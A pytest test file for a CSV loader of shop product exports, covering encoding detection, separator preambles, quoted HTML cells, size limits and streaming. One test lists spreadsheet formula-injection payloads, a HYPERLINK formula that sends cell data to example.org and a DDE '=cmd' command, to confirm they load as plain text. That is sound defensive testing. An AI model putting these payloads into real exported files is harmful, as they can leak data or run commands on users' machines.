"""Delimited text as shops export it: encodings, preambles, quoted HTML, and files read part by part."""

from __future__ import annotations

import csv
import io
import tracemalloc
from pathlib import Path
from typing import Any
from unittest import mock

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from scanfit.errors import CatalogError
from scanfit_csv import LINE, batches, blocks, load, table
from scanfit_csv.quick import quick_table

# The header of a Shopify product export (R: help.shopify.com, "Using CSV files to import and export products"), cut
SHOPIFY = (
    "Handle,Title,Body (HTML),Vendor,Option1 Name,Option1 Value,Variant SKU,Variant Price\r\n"
    'runner,Runner,"<p>Light, ""soft"" and wide.</p>\n<ul>\n<li>10,5 oz</li>\n</ul>",Ace,Size,42,R-42,89.00\r\n'
    "runner,,,,,43,R-43,89.00\r\n"
    'boot,Boot,"<p>\r\nWarm\r\n</p>",Ace,Size,42,B-42,129.00\r\n'
)


def read(path: Path, content: bytes, **options: Any) -> pl.DataFrame:
    path.write_bytes(content)
    return load(str(path), options)


def refused(path: Path, content: bytes, **options: Any) -> CatalogError:
    with pytest.raises(CatalogError) as caught:
        read(path, content, **options)
    assert caught.value.exit_code == 4
    assert caught.value.next_step
    return caught.value


TEXT = "größe,preis\n38½,12 €\n"


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "cp1252"])
def test_auto_tells_the_encoding(tmp_path: Path, encoding: str) -> None:
    table = read(tmp_path / "a.csv", TEXT.encode(encoding))
    assert (table.columns, table.rows()) == (["größe", "preis", LINE], [("38½", "12 €", 2)])


def test_auto_reads_utf_16_of_either_byte_order(tmp_path: Path) -> None:
    for mark, encoding in ((b"\xff\xfe", "utf-16-le"), (b"\xfe\xff", "utf-16-be")):
        assert read(tmp_path / "a.csv", mark + TEXT.encode(encoding)).rows() == [("38½", "12 €", 2)]


def test_an_explicit_encoding_wins(tmp_path: Path) -> None:
    assert read(tmp_path / "a.csv", "a,b\nä,1\n".encode(), encoding="latin-1").rows() == [("Ã¤", "1", 2)]
    assert read(tmp_path / "a.csv", b"a,b\n\x81,1\n", encoding="latin-1").rows() == [("\x81", "1", 2)]


@pytest.mark.parametrize(
    ("content", "what", "where"),
    [
        # cp850, the DOS code page: ü is 81, which Windows-1252 does not have
        ("a,b\n1,2\nGr\u00fcn,2\n".encode("cp850"), "the text is neither UTF-8 nor Windows-1252 (byte 81)", " line 3"),
        ("a,b\n靴,2\n".encode("shift-jis").replace(b"a", b"\x83\x81"),
         "the text is neither UTF-8 nor Windows-1252 (byte 81)", " line 1"),
        # UTF-8, one byte of it lost
        ("a,b\nä,ö\nß,".encode() + b"\xc3\n", "the text is UTF-8 with a damaged place", " line 3"),
        (b"\xef\xbb\xbfa,b\n\xe4,2\n", "the text is UTF-8 with a damaged place", " line 2"),
    ],
)  # fmt: skip
def test_auto_does_not_guess_on(tmp_path: Path, content: bytes, what: str, where: str) -> None:
    path = tmp_path / "a.csv"
    error = refused(path, content)
    assert (error.what, error.where) == (what, f"{path}{where}")


def test_a_sep_line_names_the_separator_and_is_counted(tmp_path: Path) -> None:
    for first in (b"sep=;\r\n", b'"sep=;"\r\n', b"SEP=;\n"):
        assert read(tmp_path / "a.csv", first + b"a,x;b\n1;2,5\n").rows() == [("1", "2,5", 3)]
    assert read(tmp_path / "a.csv", "sep=\t\na\tb\n1\t2\n".encode("utf-16")).rows() == [("1", "2", 3)]
    assert read(tmp_path / "a.csv", b"sep=;\na|b\n1|2\n", separator="pipe").rows() == [("1", "2", 3)]
    assert refused(tmp_path / "a.csv", b"sep=;\na;a\n").where.endswith(" line 2")


def test_a_separator_inside_a_quoted_name_is_not_counted(tmp_path: Path) -> None:
    assert read(tmp_path / "a.csv", b'"size (EU, UK, US, JP)";b\n1;2\n').rows() == [("1", "2", 2)]


def test_a_shopify_export_keeps_its_cells_and_lines(tmp_path: Path) -> None:
    rows = read(tmp_path / "products_export.csv", SHOPIFY.encode())
    assert rows[LINE].to_list() == [2, 6, 7]
    assert rows["Variant SKU"].to_list() == ["R-42", "R-43", "B-42"]
    assert rows["Body (HTML)"].to_list() == [
        '<p>Light, "soft" and wide.</p>\n<ul>\n<li>10,5 oz</li>\n</ul>', "", "<p>\r\nWarm\r\n</p>",
    ]  # fmt: skip


def test_a_fault_after_quoted_lines_is_named_by_the_line_of_the_file(tmp_path: Path) -> None:
    error = refused(tmp_path / "a.csv", SHOPIFY.encode() + b"short,row\r\n")
    assert (error.what, error.where) == ("2 cells, but the header has 8", f"{tmp_path / 'a.csv'} line 10")


def test_a_google_feed_in_tsv(tmp_path: Path) -> None:
    text = "id\titem_group_id\ttitle\tsize\tprice\nA-42\tA\t6\" boot, Ben's\t42\t89.90 EUR\n"
    assert read(tmp_path / "feed.tsv", text.encode()).rows() == [("A-42", "A", "6\" boot, Ben's", "42", "89.90 EUR", 2)]


def test_formulas_are_plain_text(tmp_path: Path) -> None:
    cells = ['=HYPERLINK("http://example.org/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1"]
    text = io.StringIO(newline="")
    csv.writer(text).writerows([["a", "b"], *([cell, "x"] for cell in cells)])
    assert read(tmp_path / "a.csv", text.getvalue().encode())["a"].to_list() == cells


def test_a_line_without_end_is_refused_before_it_fills_the_memory(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(blocks, "MAX_LINE", 100_000)
    monkeypatch.setattr(blocks, "BLOCK", 10_000)
    error = refused(tmp_path / "a.csv", b"a,b\n1," + b"9" * 300_000)
    assert (error.what, error.where) == ("the line has more than 100,000 characters", f"{tmp_path / 'a.csv'} line 2")


def test_a_cell_without_end_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    error = refused(path, b"a,b\n1,2\n1," + b"9" * 200_000 + b"\n")
    assert (error.what, error.where) == ("a cell has more than 131,072 characters", f"{path} line 3")


def test_a_file_too_big_to_load_is_streamed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("scanfit_csv.LOADED_BYTES", 10)
    path = tmp_path / "a.csv"
    assert refused(path, b"a,b\n1,2\n3,4\n").what == "the file has 0 MB, at most 0 MB are read"
    assert pl.concat(batches(str(path), {})).rows() == [("1", "2", 2), ("3", "4", 3)]


def test_batches_need_the_memory_of_one_batch(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(blocks, "BLOCK", 100_000)
    monkeypatch.setattr(table, "_ROWS_AT_ONCE", 5_000)
    path = tmp_path / "a.csv"
    path.write_bytes(b"a,b\n" + b'"first\nsecond",x\n' * 300_000)  # 5 MB, not the quick way
    tracemalloc.start()
    try:
        rows = [part.height for part in batches(str(path), {})]
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert sum(rows) == 300_000
    assert max(rows) <= 5_000
    assert peak < 5_000_000


def test_plain_blocks_take_the_quick_way() -> None:
    block = '1,"2, and 3"\n\n"",é\r\n,\n'
    quick = quick_table(block, ["a", "b"], ",", 7)
    assert quick is not None
    assert (quick.rows.rows(), quick.lines) == ([("1", "2, and 3", 7), ("", "é", 9)], 4)
    for doubtful in (
        '1,"a""b"\n',
        '1,"a\nb"\n',
        "1,2\r3,4\n",
        "1\n",
        "1,2,3\n",
        '1,a"b,"c"\n',
        "\ufeff1,2\n",
        "\n\ufeff1,2\n",
        "  \n",
    ):
        assert quick_table(doubtful, ["a", "b"], ",", 1) is None


def outcome(path: Path, *, quick: bool, block: int) -> Any:
    with mock.patch.object(blocks, "BLOCK", block):
        try:
            return pl.concat(table.tables(path, str(path), {}, quick=quick)).rows()
        except CatalogError as error:
            return error.what, error.where, error.next_step


PIECES = st.lists(
    st.sampled_from(['"', '""', ",", ",", ",", "\n", "\n", "\r\n", "\r", " ", "a", "b,c\n", '"d",e\n', '"f,g","h\ni"\n',
                     "é", "½", "\ufeff", "\x1c", "\xa0", "\0", "\u2028", "'", ";"]),
    max_size=30,
)  # fmt: skip


@given(pieces=PIECES, block=st.integers(1, 40))
def test_the_quick_way_and_csv_agree(tmp_path_factory: pytest.TempPathFactory, pieces: list[str], block: int) -> None:
    path = tmp_path_factory.mktemp("csv") / "a.csv"
    path.write_bytes(("first,second\n" + "".join(pieces)).encode())
    expected = outcome(path, quick=False, block=1 << 20)
    assert outcome(path, quick=True, block=1 << 20) == expected
    assert outcome(path, quick=True, block=block) == expected


CELL = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=8)


@given(
    rows=st.lists(st.tuples(CELL, CELL), max_size=8),
    mark=st.sampled_from(",;\t|"),
    encoding=st.sampled_from(["utf-8", "utf-8-sig", "utf-16"]),
    quoting=st.sampled_from([csv.QUOTE_MINIMAL, csv.QUOTE_ALL]),
    block=st.integers(1, 60),
)
def test_what_is_written_is_read(
    tmp_path_factory: pytest.TempPathFactory,
    rows: list[tuple[str, str]],
    mark: str,
    encoding: str,
    quoting: Any,
    block: int,
) -> None:
    text = io.StringIO(newline="")
    csv.writer(text, delimiter=mark, quoting=quoting).writerows([("first", "second"), *rows])
    path = tmp_path_factory.mktemp("csv") / "a.csv"
    path.write_bytes(text.getvalue().encode(encoding))
    with mock.patch.object(blocks, "BLOCK", block):
        parts = list(batches(str(path), {}))
    expected = [row for row in rows if any(cell.strip() for cell in row)]
    assert pl.concat(parts).select("first", "second").rows() == expected
    assert pl.concat(parts).equals(load(str(path), {}))


@given(
    content=st.one_of(st.binary(max_size=300), st.binary(max_size=300).map(lambda b: b"a,b\n" + b)),
    encoding=st.sampled_from(["auto", "utf-8", "utf-16", "cp1252", "latin-1"]),
    name=st.sampled_from(["a.csv", "a.tsv"]),
)
def test_any_bytes_are_a_table_or_refused(
    tmp_path_factory: pytest.TempPathFactory, content: bytes, encoding: str, name: str
) -> None:
    path = tmp_path_factory.mktemp("csv") / name
    path.write_bytes(content)
    try:
        table = load(str(path), {"encoding": encoding})
    except CatalogError as error:
        told = error.where, error.next_step
    else:
        told = str(path), table.columns[-1]
    assert told[0].startswith(str(path))
    assert told[1]
